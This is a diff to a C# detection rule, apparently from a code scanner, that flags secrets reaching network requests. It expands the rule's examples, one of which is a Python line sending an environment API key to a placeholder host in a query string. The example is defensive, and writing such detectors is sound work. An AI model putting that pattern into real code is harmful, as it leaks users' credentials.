@@ -9,7 +9,15 @@ public sealed class SecretExfiltrationRule() : FileRule(
         What: "A value of the environment, of a secret file or of the host reaches a connection, request or name look-up.",
         Why: "This is what stealing credentials looks like.",
         Bad: """
-            requests.get("https://example.org/?k=" + os.environ["KEY"])
+            import os
+
+            import requests
+
+            requests.get("https://example.org/?k=" + os.environ["API_KEY"])
             """,
-        Good: "# no secrets in nodes; the engine gives them none",
+        Good: """
+            import json
+
+            print(json.dumps({"signal": 1}))  # the engine gives nodes no secrets
+            """,
         Allow: Allowing.Points));
